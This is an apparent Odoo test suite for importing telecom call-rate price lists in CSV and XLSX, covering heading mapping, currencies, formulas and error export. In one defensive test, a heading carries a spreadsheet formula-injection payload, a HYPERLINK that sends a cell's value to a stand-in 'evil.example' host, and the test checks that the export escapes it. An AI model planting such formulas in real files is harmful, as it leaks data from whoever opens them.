"""Price lists as carriers and switches lay them out: which headings say for sure what they are, and which are asked."""

import csv
import io
from datetime import datetime
from decimal import Decimal

from odoo.exceptions import UserError
from odoo.tests import tagged
from xlsxwriter import Workbook

from .rate_case import RateCase

# {whose: (headings, a line, {field of the rate: what it says})}. From the import and export formats of these systems.
KNOWN = {
    "ASTPP": (
        "Code,Destination,Connect Cost,Included Seconds,Per Minute Cost,Initial Increment,Increment",
        "1246,Barbados,0.02,5,0.2345,30,6",
        {"prefix": "1246", "connection_fee": "0.02", "free_seconds": 5, "price_per_minute": "0.2345",
         "first_block_seconds": 30, "increment_seconds": 6},
    ),
    "A2Billing, MagnusBilling": (
        "dialprefix,destination,rateinitial,initblock,billingblock,minimal_time_charge,connectcharge",
        "1246,Barbados,0.05,30,6,0,0.01",
        {"prefix": "1246", "price_per_minute": "0.05", "first_block_seconds": 30, "increment_seconds": 6,
         "connection_fee": "0.01"},
    ),
    "ArrowBilling, without its switch of lines": (
        'Code,Description,"Rate Minute","Rate Call",Currency,Increment,Grace,"Minimal Duration"',
        "1246,Barbados,0.05,0.01,USD,30,3,30",
        {"destination": "Barbados", "price_per_minute": "0.05", "connection_fee": "0.01", "increment_seconds": 30,
         "grace_seconds": 3, "minimum_seconds": 30},
    ),
    "a carrier": (
        "Country;Destination;Dial Codes;USD/min;Setup;Billing Increment;Effective Date;Comments",
        "Barbados;Barbados Mobile;1246;0,0215;0,01;60/60;2026-11-05;unchanged",
        {"destination": "Barbados Mobile", "price_per_minute": "0.0215", "connection_fee": "0.01",
         "increment_seconds": 60, "first_block_seconds": 0, "valid_from": datetime(2026, 11, 5)},
    ),
    "a carrier with signs": (
        "Prefix,Destination,Price per min ($),Setup fee (US$),Interval 1,Interval N,Effective from",
        "1246,Barbados,$0.05,0.01 USD,1,1,ASAP",
        {"price_per_minute": "0.05", "connection_fee": "0.01", "increment_seconds": 1, "first_block_seconds": 0,
         "valid_from": datetime(2026, 11, 1)},
    ),
    "a Spanish one": (
        "Prefijo;Destino;Precio por minuto, USD;Establecimiento de llamada;Incremento (segundos);Válido desde",
        "1246;Barbados;0,05;0,01;30;05/11/2026 00:00",
        {"price_per_minute": "0.05", "connection_fee": "0.01", "increment_seconds": 30},
    ),
    "a French one": (
        "Préfixe;Destination;Prix par minute;Frais d'établissement;Palier;Valable jusqu'au",
        "1246;Barbade;0,05;0,01;30;2026-12-31",
        {"price_per_minute": "0.05", "connection_fee": "0.01", "increment_seconds": 30,
         "valid_to": datetime(2026, 12, 31)},
    ),
    "a German one": (
        "Vorwahl;Ziel;Minutenpreis (USD);Verbindungsgebühr;Takt;Gültig ab",
        "1246;Barbados;0,05;0,01;30/6;2026-11-05",
        {"price_per_minute": "0.05", "connection_fee": "0.01", "increment_seconds": 6, "first_block_seconds": 30},
    ),
}  # fmt: skip
# {whose: (headings, a line, {heading: what is guessed})}
ASKED = {
    "Telnyx": (
        "ISO,Country,Origination Prefixes,Destination Prefixes,Description,Interval 1,Interval N,Rate,Price Per Call",
        "LU,Luxembourg,local,35220,Luxembourg - NGN,60,60,0.044,0.01",
        {"ISO": False, "Country": False, "Origination Prefixes": False, "Destination Prefixes": "prefix",
         "Description": "destination", "Interval 1": "first_block_seconds", "Interval N": "increment_seconds",
         "Rate": "price_per_minute", "Price Per Call": "connection_fee"},
    ),
    "TCXC": (
        "Country,Description,Prefix,Effective from,Rate Id,Forbidden,Price 1,Price N,Interval 1,Interval N",
        ",,35220,ASAP,,0,0.044,0.044,30,6",
        {"Country": False, "Description": "destination", "Prefix": "prefix", "Effective from": "valid_from",
         "Rate Id": False, "Forbidden": False, "Price 1": "price_per_minute", "Price N": False,
         "Interval 1": "first_block_seconds", "Interval N": "increment_seconds"},
    ),
    "ASTPP, whose grace time is free in every call": (
        "Code,Destination,Connection Cost,Grace Time,Cost/Min,Initial Increment,Increment",
        "35220,Luxembourg,0.01,5,0.044,30,6",
        {"Code": "prefix", "Destination": "destination", "Connection Cost": "connection_fee",
         "Grace Time": "grace_seconds", "Cost/Min": "price_per_minute", "Initial Increment": "first_block_seconds",
         "Increment": "increment_seconds"},
    ),
    "two prices": (
        "Prefix,Price per minute (USD),Price per minute (EUR)",
        "35220,0.044,0.04",
        {"Prefix": "prefix", "Price per minute (USD)": "price_per_minute", "Price per minute (EUR)": False},
    ),
}  # fmt: skip


@tagged("post_install", "-at_install")
class TestRateLayouts(RateCase):
    def _rows(self, *lines):
        delimiter = ";" if ";" in lines[0] else ","
        return list(csv.reader(lines, delimiter=delimiter))

    def _continue(self, file):
        wizard = self._begin(file)
        wizard.action_continue()
        return wizard

    def test_headings_that_are_known_are_not_asked_about(self):
        for whose, (header, line, wanted) in KNOWN.items():
            for kind in ("CSV", "XLSX"):
                with self.subTest(whose=whose, kind=kind):
                    lines = [header, line]
                    wizard = self._continue("\n".join(lines) if kind == "CSV" else self._xlsx(*self._rows(*lines)))
                    self.assertEqual((wizard.state, wizard.error_ids.mapped("message")), ("previewed", []))
                    rate = wizard._changes().filtered("line")
                    self.assertEqual(rate.prefix, "1246")
                    for name, value in wanted.items():
                        value = Decimal(value) if name in ("price_per_minute", "connection_fee") else value
                        self.assertEqual(rate[name], value, name)

    def test_headings_with_two_meanings_are_asked_about(self):
        for whose, (header, line, wanted) in ASKED.items():
            with self.subTest(whose=whose):
                wizard = self._continue(f"{header}\n{line}\n")
                self.assertEqual((wizard.state, self._said(wizard)), ("columns", wanted))
                wizard.action_preview()
                self.assertFalse(wizard.error_count, wizard.error_ids.mapped("message"))
                rate = wizard._changes().filtered("line")
                self.assertEqual((rate.prefix, rate.price_per_minute), ("35220", Decimal("0.044")))

    def test_a_template_of_every_language_is_read_without_asking(self):
        for language in ("fr_FR", "de_DE", "pt_PT", "pt_BR"):
            self.env["res.lang"]._activate_lang(language)
            for kind in ("csv", "xlsx"):
                with self.subTest(language=language, kind=kind):
                    imports = self.env["call.rate.import"].with_user(self.finance).with_context(lang=language)
                    _name, content = imports._template(self.plan, kind)
                    wizard = self._begin(content).with_context(lang=language)
                    wizard.action_continue()
                    self.assertEqual((wizard.state, wizard.error_count, wizard.prefix_count), ("previewed", 0, 2))

    # === CURRENCIES === #

    def test_prices_in_another_currency_are_refused_wherever_the_file_says_so(self):
        for header, line in (
            ("prefix,EUR/min", "7,0.05"),
            ("prefix,€/min", "7,0.05"),
            ("prefix,price/min (A$)", "7,0.05"),
            ("prefix,price/min,setup fee GBP", "7,0.05,0"),
        ):
            with self.subTest(header), self.assertRaisesRegex(UserError, "and the rate plan in USD"):
                self._continue(f"{header}\n{line}\n")
        errors = self._refusal("7,0.05,EUR", "8,0.05,usd", "9,€0.05,", header="prefix,price/min,Currency")
        self.assertEqual(set(errors), {(2, "currency"), (4, "price_per_minute")})
        self.assertIn("in USD", errors[2, "currency"])

    def test_words_of_three_letters_are_no_currencies(self):
        for header in ("prefix,Rate new", "prefix,Rate net", "prefix,Rate (all)"):
            with self.subTest(header):
                wizard = self._continue(f"{header}\n7,0.05\n")
                self.assertEqual(wizard.state, "columns")

    # By hand, a call of 61 seconds: two minutes of 5 yen and 2 yen for the connection; 61 seconds of 0.25 yen a minute
    # are 0.2541666... yen. One of 90 seconds: two minutes of 0.0125 dinars and 0.005; 30 seconds and ten sixes, all of
    # them billed, of 0.0125 dinars a minute are 0.01875.
    COINS = (
        ("JPY", "81", "4.5",
         ("81,Japan,5,60,2", "8190,Japan mobile,0.25,1,0"), "¥/min",
         (("+81312345678", 61, "12.000000"), ("+819012345678", 61, "0.254167")), "from 4.5 to 5 JPY"),
        ("KWD", "965", "0.01",
         ("965,Kuwait,0.0125,60,0.005", "9656,Kuwait mobile,0.0125,30/6,0"), "KWD/min",
         (("+96522123456", 90, "0.030000"), ("+96561234567", 90, "0.018750")), "from 0.01 to 0.0125 KWD"),
    )  # fmt: skip

    def test_plans_in_currencies_of_no_and_of_three_decimals(self):
        for code, prefix, old_price, lines, heading, calls, told in self.COINS:
            with self.subTest(code):
                currency = self._set_rate(code, 150)
                rate = {"prefix": prefix, "price_per_minute": old_price}
                plan = self.env["call.rate.plan"].create(
                    {"name": code, "currency_id": currency.id, "rate_ids": [(0, 0, rate)]}
                )
                wallet = self._make_wallet(currency_id=currency.id, rate_plan_id=plan.id)
                self._fund(wallet, "1000")
                header = f"prefix,destination,{heading},increment,setup"
                wizard = self._import(*lines, header=header, plan_id=plan.id, valid_from=datetime(2026, 9, 1))
                self.assertIn(told, wizard.sums)
                wizard.action_apply()
                for number, seconds, cost in calls:
                    call = self._call(account=wallet.account_ref, number=number, duration_seconds=seconds)
                    self.assertEqual(self._record(call)["total_cost"], cost)
                with self.assertRaisesRegex(UserError, f"in USD, and the rate plan in {code}"):
                    self._import("81,,5", header="prefix,destination,USD/min", plan_id=plan.id)

    # === FORMULAS === #

    def _formulas(self, *rows):
        """A workbook of a program that calculates: cells are values, or (formula, the value it had)."""
        file = io.BytesIO()
        book = Workbook(file, {"in_memory": True})
        sheet = book.add_worksheet()
        for line, row in enumerate(rows):
            for place, cell in enumerate(row):
                if isinstance(cell, tuple):
                    sheet.write_formula(line, place, cell[0], None, cell[1])
                else:
                    sheet.write(line, place, cell)
        book.close()
        return file.getvalue()

    HEADER = ("prefix", "destination", "price_per_minute", "connection_fee", "Comment")

    def test_a_formula_without_a_value_is_a_fault_of_its_line_and_never_an_empty_cell(self):
        # Empty, the first would be the price of every number, and the third no fee at all.
        file = self._xlsx(
            self.HEADER,
            ("=E2", "Any", 0.05, 0, "x"),
            ("7", "Russia", "=E3*2", 0, "x"),
            ("61", "Australia", 0.05, "=E4", "x"),
            ("64", "New Zealand", 0.05, 0, "=E5"),
        )
        errors = self._refusal(file=file)
        self.assertEqual(set(errors), {(2, "prefix"), (3, "price_per_minute"), (4, "connection_fee")})
        self.assertIn("let it calculate", errors[2, "prefix"])

    def test_a_formula_with_a_value_is_its_value(self):
        file = self._formulas(self.HEADER, ("7", "Russia", ("=0.02+0.03", 0.05), ("=0.01", 0.01), "x"))
        line = self._import(file=file)._changes().filtered("line")
        self.assertEqual((line.price_per_minute, line.connection_fee), (Decimal("0.05"), Decimal("0.01")))

    def test_a_formula_that_has_failed_names_nothing(self):
        file = self._formulas(self.HEADER, ("7", ("=NA()", "#N/A"), 0.05, 0, "x"))
        self.assertEqual(set(self._refusal(file=file)), {(2, "destination")})

    # === WHAT A FILE LEAVES OPEN === #

    def test_what_a_file_says_nothing_of_stays_as_it_was(self):
        """+49 is billed by 6 s, at least 30; +44 has a fee of 0.01; a new one is billed by the minute."""
        wizard = self._import("49,0.07", "44,0.04", "7,0.05", header="prefix,price_per_minute")
        self.assertEqual(wizard.terms_count, 0)
        wizard.action_apply()
        told = {
            prefix: (rate.price_per_minute, rate.increment_seconds, rate.minimum_seconds, rate.connection_fee)
            for prefix in ("49", "44", "7")
            for rate in self._rates(prefix)[-1:]
        }
        self.assertEqual(
            told,
            {
                "49": (Decimal("0.07"), 6, 30, 0),
                "44": (Decimal("0.04"), 60, 0, Decimal("0.01")),
                "7": (Decimal("0.05"), 60, 0, 0),
            },
        )

    def test_a_file_that_says_some_of_how_long_is_billed_says_all_of_it(self):
        wizard = self._import("49,0.06,10", header="prefix,price_per_minute,increment")
        [line] = wizard._changes().filtered("line")
        self.assertEqual((line.increment_seconds, line.minimum_seconds), (10, 0))

    # === WHAT IS SENT BACK === #

    def test_headings_of_a_carrier_are_no_formulas_in_the_file_of_faulty_lines(self):
        evil = '=HYPERLINK("http://evil.example/?"&A2)'
        text = f'prefix,price_per_minute,"{evil.replace(chr(34), 2 * chr(34))}"\n44,x,0.01\n'
        wizard = self._begin(text)
        wizard.action_continue()
        wizard.column_ids.filtered(lambda column: column.heading.startswith("=")).meaning = "connection_fee"
        wizard.action_continue()
        _name, content = wizard._faulty_lines()
        headings, line = csv.reader(io.StringIO(content.decode("utf-8-sig")))
        self.assertEqual(headings[2], f"'{evil}")
        self.assertEqual(line[:3], ["44", "x", "0.01"])

    def test_content_that_is_no_text_is_refused_by_name(self):
        imports = self.env["call.rate.import"].with_user(self.finance)
        for content in (5, 1.5, True, ["YQ=="]):
            with self.subTest(content), self.assertRaisesRegex(UserError, "File: send its content as base64"):
                imports.create({"plan_id": self.plan.id, "file": content})

    def test_a_file_without_a_line_has_no_faulty_ones(self):
        with self.assertRaisesRegex(UserError, "it is empty"):
            self._begin(" , \n")._faulty_lines()

    def test_a_cell_with_prefixes_without_end_is_refused(self):
        errors = self._refusal('"' + "1000-1999," * 11 + '1",0.01', header="prefix,price_per_minute")
        self.assertEqual(errors[2, "prefix"], "A line has at most 10000 prefixes: use several lines.")
